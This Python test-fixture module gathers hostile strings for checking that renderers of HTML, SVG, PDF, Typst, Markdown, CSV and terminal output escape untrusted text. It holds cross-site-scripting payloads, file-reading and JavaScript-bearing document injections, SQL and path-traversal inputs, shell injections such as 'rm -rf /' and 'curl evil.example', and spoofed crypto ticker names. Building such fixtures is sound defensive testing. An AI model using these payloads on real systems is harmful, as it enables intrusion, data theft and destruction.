"""Texts that attack whoever shows them: one corpus for every sink (HTML, SVG, PDF, CSV, terminal, notebook, JSON).

Invariant: HOSTILE_TEXTS holds no text twice; UTF8_HOSTILE_TEXTS are those that a file in UTF-8 can hold.
Every script in it would call alert, every address in it is evil.example: a test looks for the one and the other.
"""

from __future__ import annotations

from tests.test_report_hostile import HOSTILE

TYPST = [
    '#panic("no")',
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    '#import "@preview/evil:0.1.0": *',
    '#link("https://evil.example")[x]',
    '#image("/etc/passwd")',
    '#json("/etc/passwd")',
    "#{ while true {} }",
    "#let x = 1",
    "]#panic()[",
    '")#panic()//',
    "$ integral $",
    "*bold* _em_ `raw`",
    "= Heading",
    "- item",
    "+ item",
    "/ term: text",
    "<label>",
    "@reference",
    "// comment",
    "/* comment */",
    "\\u{202E}",
    "~~~",
    "https://evil.example/x",
    "#set page(width: 1pt)",
    "#show: none",
    "```typ #panic() ```",
    "--- … 'quotes' \"double\"",
]
PDF = [
    "(unbalanced",
    ")Tj ET",
    "/JS (alert(1))",
    "/OpenAction << /S /JavaScript >>",
    "endstream endobj",
    "%%EOF",
    "<FEFF00>",
]
MARKDOWN = ["[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "| a | b |", "# heading", "<!--", "-->"]
HTML = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=`x` onerror=alert(1)>",
    "</pre><script>alert(1)</script>",
    "</code><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "</desc></svg><script>alert(1)</script>",
    '" style="background:url(//evil.example)',
    "x' onclick='alert(1)' '",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&NewLine;&Tab;&colon;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
]
JSON_TEXTS = ['"}', '\\"', "{}", "null", "\\", "__proto__", "]]}"]
NUMBERS = ["1e308", "-0", "NaN", "Infinity", "0x41", "1,000,000 ETH", "E1", "E6", "100%"]
LONG = ["A" * 5_000, "W" * 300, "a b " * 700, "x" + "\u0301" * 200, "ﷺ" * 60, "👩‍👩‍👧‍👦" * 20]
PATHS = ["../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd", "a\x00b/../c", "CON"]
SQL = ["'; DROP TABLE cases; --", "1 OR 1=1", "%27%20OR%201=1"]
SHELL = ["$(touch /tmp/dyepack-pwned)", "`id`", "; rm -rf /", "| cat /etc/passwd", "&& curl evil.example"]
SPOOFED = ["UЅDС", "ЕТН", "Вinance", "Ꮯoinbase", "USDⲤ", "ＥＴＨ", "E\u200bT\u200bH", "0x\u202e1234"]

_ALL = [*HOSTILE, *TYPST, *PDF, *MARKDOWN, *HTML, *JSON_TEXTS, *NUMBERS, *LONG, *PATHS, *SQL, *SHELL, *SPOOFED]

HOSTILE_TEXTS: list[str] = list(dict.fromkeys(_ALL))
"""Every text once."""


def _fits_utf8(text: str) -> bool:
    return not any("\ud800" <= c <= "\udfff" for c in text)


UTF8_HOSTILE_TEXTS: list[str] = [text for text in HOSTILE_TEXTS if _fits_utf8(text)]
"""Those without a lone surrogate."""
